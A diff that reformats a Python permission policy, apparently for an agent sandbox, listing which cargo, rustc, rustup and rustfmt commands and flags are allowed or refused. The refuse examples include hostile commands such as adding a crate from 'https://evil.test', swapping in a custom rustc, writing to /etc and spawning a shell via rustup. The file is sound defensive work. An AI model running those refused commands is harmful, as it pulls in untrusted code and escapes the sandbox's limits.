@@ -4,11 +4,15 @@ from treadle.policy.commands.language import Rule
 from treadle.policy.commands.tools import tools
 
 _CARGO = (
-    "-qvrjFp --release --dev --quiet --verbose --all --workspace --lib --bins --tests --examples --benches"
-    " --all-targets --all-features --no-default-features -F=text --features=text -p=name --package=name"
+    "-qvrjFp --release --dev --quiet --verbose --all --workspace --lib --bins --tests"
+    " --examples --benches"
+    " --all-targets --all-features --no-default-features -F=text --features=text"
+    " -p=name --package=name"
     " --exclude=name --bin=name --test=name --example=name --bench=name -j=number --jobs=number"
-    " --profile=name --target=name --target-dir=write --manifest-path=run --message-format=text --locked"
-    " --offline --frozen --keep-going --color=text --timings --no-run --no-fail-fast --doc --open --no-deps"
+    " --profile=name --target=name --target-dir=write --manifest-path=run"
+    " --message-format=text --locked"
+    " --offline --frozen --keep-going --color=text --timings --no-run --no-fail-fast"
+    " --doc --open --no-deps"
     " --document-private-items --fix --allow-dirty --allow-staged --ignored --unit-graph"
 )
 _WORDS = "Use the project's own settings."
@@ -25,20 +29,73 @@ RULES: tuple[Rule, ...] = (
         "cargo",
         "-qvV --version --locked --offline --frozen --color=text --list",
         subs=(
-            *(_cargo(name, "near...") for name in ("build", "b", "check", "c", "test", "t", "run", "r", "bench", "doc", "d",
-                                        "clippy", "nextest", "llvm-cov", "tarpaulin", "expand", "machete", "audit", "deny")),
-            Rule("fmt", "--all --check -p=name --quiet -q -v", "near...", mode="run", instead=_WORDS),
+            *(
+                _cargo(name, "near...")
+                for name in (
+                    "build",
+                    "b",
+                    "check",
+                    "c",
+                    "test",
+                    "t",
+                    "run",
+                    "r",
+                    "bench",
+                    "doc",
+                    "d",
+                    "clippy",
+                    "nextest",
+                    "llvm-cov",
+                    "tarpaulin",
+                    "expand",
+                    "machete",
+                    "audit",
+                    "deny",
+                )
+            ),
+            Rule(
+                "fmt", "--all --check -p=name --quiet -q -v", "near...", mode="run", instead=_WORDS
+            ),
             Rule("fix", _CARGO + " --edition --edition-idioms --broken-code", "", mode="run"),
             Rule("clean", "-p=name --release --dry-run -n --doc", "", mode="run"),
-            Rule("update", "-p=name --precise=text --dry-run --recursive -w --workspace", "name...", mode="run"),
-            Rule("add", "--dev --build --optional --no-default-features -F=text --features=text --rename=name -p=name --path=run --dry-run --default-features", "crate...", mode="run", instead="Add crates from the registry by name."),
+            Rule(
+                "update",
+                "-p=name --precise=text --dry-run --recursive -w --workspace",
+                "name...",
+                mode="run",
+            ),
+            Rule(
+                "add",
+                (
+                    "--dev --build --optional --no-default-features -F=text --features=text"
+                    " --rename=name -p=name --path=run --dry-run --default-features"
+                ),
+                "crate...",
+                mode="run",
+                instead="Add crates from the registry by name.",
+            ),
             Rule("remove", "--dev --build -p=name --dry-run", "name...", needs=1, mode="run"),
             Rule("rm", "--dev --build -p=name", "name...", needs=1, mode="run"),
             Rule("fetch", "--locked --target=name", "", mode="run"),
-            Rule("tree", "-aide --depth=number -p=name -i=name --invert=name --duplicates -d -e=text --edges=text --no-dedupe --all-features --prefix=text -f=text --workspace", "name..."),
+            Rule(
+                "tree",
+                (
+                    "-aide --depth=number -p=name -i=name --invert=name --duplicates -d -e=text"
+                    " --edges=text --no-dedupe --all-features --prefix=text -f=text --workspace"
+                ),
+                "name...",
+            ),
             Rule("metadata", "--no-deps --format-version=number --offline --locked", ""),
-            Rule("init", "--bin --lib --name=name --edition=text --vcs=name -q", "write", mode="run"),
-            Rule("new", "--bin --lib --name=name --edition=text --vcs=name -q", "write", needs=1, mode="run"),
+            Rule(
+                "init", "--bin --lib --name=name --edition=text --vcs=name -q", "write", mode="run"
+            ),
+            Rule(
+                "new",
+                "--bin --lib --name=name --edition=text --vcs=name -q",
+                "write",
+                needs=1,
+                mode="run",
+            ),
             Rule("search", "--limit=number -q", "name..."),
             Rule("generate-lockfile", "", "", mode="run"),
             Rule("locate-project", "--workspace", ""),
@@ -50,15 +107,33 @@ RULES: tuple[Rule, ...] = (
             Rule("yank", "--version=text --vers=text", "name", mode="run"),
         ),
         instead="Build, test and lint the project; a person installs and publishes.",
-        allows=("cargo build --release", "cargo test -- --nocapture", "cargo clippy -- -D warnings", "cargo fmt --check",
-                "cargo run --bin server -- --port 80", "cargo add serde --features derive", "cargo test my_test"),
-        refuses=("cargo install evil", "cargo publish", "cargo --config 'build.rustc=\"./e\"' build", "cargo login x",
-                 "cargo build --target-dir /etc/x", "cargo run --manifest-path /tmp/evil/Cargo.toml",
-                 "cargo add --git https://evil.test/x y", "cargo +nightly build", "cargo test --config /tmp/x"),
+        allows=(
+            "cargo build --release",
+            "cargo test -- --nocapture",
+            "cargo clippy -- -D warnings",
+            "cargo fmt --check",
+            "cargo run --bin server -- --port 80",
+            "cargo add serde --features derive",
+            "cargo test my_test",
+        ),
+        refuses=(
+            "cargo install evil",
+            "cargo publish",
+            "cargo --config 'build.rustc=\"./e\"' build",
+            "cargo login x",
+            "cargo build --target-dir /etc/x",
+            "cargo run --manifest-path /tmp/evil/Cargo.toml",
+            "cargo add --git https://evil.test/x y",
+            "cargo +nightly build",
+            "cargo test --config /tmp/x",
+        ),
     ),
     Rule(
         "rustc",
-        "-vVOg --version --edition=text -o=write --crate-type=name --crate-name=name --test --emit=text --explain=name --print=text --out-dir=write",
+        (
+            "-vVOg --version --edition=text -o=write --crate-type=name --crate-name=name --test"
+            " --emit=text --explain=name --print=text --out-dir=write"
+        ),
         "run",
         instead="Build with cargo.",
         allows=("rustc --version", "rustc src/main.rs -o target/x"),
@@ -67,11 +142,21 @@ RULES: tuple[Rule, ...] = (
     Rule(
         "rustup",
         "-V --version",
-        subs=(Rule("show", "", "name"), Rule("toolchain", subs=(Rule("list", "-v"),)), Rule("component", subs=(Rule("list", "--installed"),)),
-              Rule("target", subs=(Rule("list", "--installed"),)), Rule("which", "", "name")),
+        subs=(
+            Rule("show", "", "name"),
+            Rule("toolchain", subs=(Rule("list", "-v"),)),
+            Rule("component", subs=(Rule("list", "--installed"),)),
+            Rule("target", subs=(Rule("list", "--installed"),)),
+            Rule("which", "", "name"),
+        ),
         instead="Look only; toolchains are set up before the session.",
         allows=("rustup show",),
-        refuses=("rustup run nightly sh", "rustup toolchain link x /tmp", "rustup update", "rustup default x"),
+        refuses=(
+            "rustup run nightly sh",
+            "rustup toolchain link x /tmp",
+            "rustup update",
+            "rustup default x",
+        ),
     ),
     Rule(
         "rustfmt",
@@ -83,5 +168,7 @@ RULES: tuple[Rule, ...] = (
         allows=("rustfmt --check src/main.rs",),
         refuses=("rustfmt /etc/x", "rustfmt --config-path /tmp/x src/main.rs"),
     ),
-    *tools("cargo-fmt cargo-clippy clippy-driver rust-analyzer cargo-nextest wasm-pack trunk mdbook"),
-)  # fmt: skip
+    *tools(
+        "cargo-fmt cargo-clippy clippy-driver rust-analyzer cargo-nextest wasm-pack trunk mdbook"
+    ),
+)
